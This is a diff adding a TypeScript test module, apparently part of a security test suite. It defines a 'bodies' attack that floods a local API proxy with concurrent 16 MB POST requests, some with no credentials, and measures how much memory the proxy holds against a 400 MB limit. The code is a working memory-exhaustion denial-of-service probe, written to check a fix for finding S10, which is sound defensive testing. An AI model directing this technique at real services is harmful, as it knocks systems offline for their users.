@@ -1,0 +1,71 @@
+/** Large bodies from nobody in particular, held while each waits for its turn: the proxy's memory. */
+import net from "node:net";
+import { type Attack, Tally } from "../attack";
+import { memoryOf } from "../service";
+
+const PER_ROUND = 80;
+const BODY_BYTES = 16 * 1024 * 1024 - 10;
+const CHUNK = Buffer.alloc(1 << 20);
+/** What all bodies in hand may take, and what a runtime needs beside it. */
+const MAX_GROWTH_BYTES = 400 * 1024 * 1024;
+const HOLD_MS = 6000;
+
+export const bodies: Attack = {
+  name: "bodies",
+  finding: "S10",
+  async run(service, rounds, random) {
+    const tally = new Tally();
+    const { victim } = service.accounts;
+    const source = await service.sourceBase("Bodies");
+    const ownerKey = await service.key({ [source.id]: "create" });
+    const base = await service.connect(victim, source, { api_key: ownerKey, settings: { live: false } });
+    await victim.change(base.id, { paused: true });
+    for (let round = 0; round < rounds; round++) {
+      const proxy = service.of("proxy")[round % 2]!;
+      const before = memoryOf(proxy.pid);
+      let peak = before;
+      const sampling = setInterval(() => (peak = Math.max(peak, memoryOf(proxy.pid))), 50);
+      const who = random.pick(["", "Authorization: Bearer x.y\r\n"]);
+      await Promise.all(Array.from({ length: PER_ROUND }, () => send(proxy.port, source.id, who)));
+      clearInterval(sampling);
+      const grown = peak - before;
+      const held = Math.floor((grown - MAX_GROWTH_BYTES) / BODY_BYTES);
+      const megabytes = (grown / 1024 ** 2).toFixed(0);
+      tally.addMany(
+        PER_ROUND,
+        Math.max(0, Math.min(PER_ROUND, held)),
+        `body held beyond 400 MB (grew by ${megabytes} MB)`,
+      );
+    }
+    await service.disconnect(base);
+    return tally;
+  },
+};
+
+/** One request whose body is always the same megabyte: the memory is to be the proxy's. */
+function send(port: number, baseId: string, who: string): Promise<void> {
+  return new Promise((resolve) => {
+    let sent = 0;
+    const socket = net.connect(port, "127.0.0.1", () => {
+      socket.write(
+        `POST /api.airtable.com/v0/${baseId}/Tasks HTTP/1.1\r\nHost: x\r\n${who}Content-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\nConnection: close\r\n\r\n`,
+      );
+      pump();
+    });
+    const pump = () => {
+      while (sent < BODY_BYTES && !socket.destroyed) {
+        const piece = CHUNK.subarray(0, Math.min(CHUNK.length, BODY_BYTES - sent));
+        sent += piece.length;
+        if (!socket.write(piece)) return;
+      }
+    };
+    const timer = setTimeout(() => socket.destroy(), HOLD_MS);
+    socket.on("drain", pump);
+    socket.on("data", () => {});
+    socket.on("error", () => {});
+    socket.on("close", () => {
+      clearTimeout(timer);
+      resolve();
+    });
+  });
+}
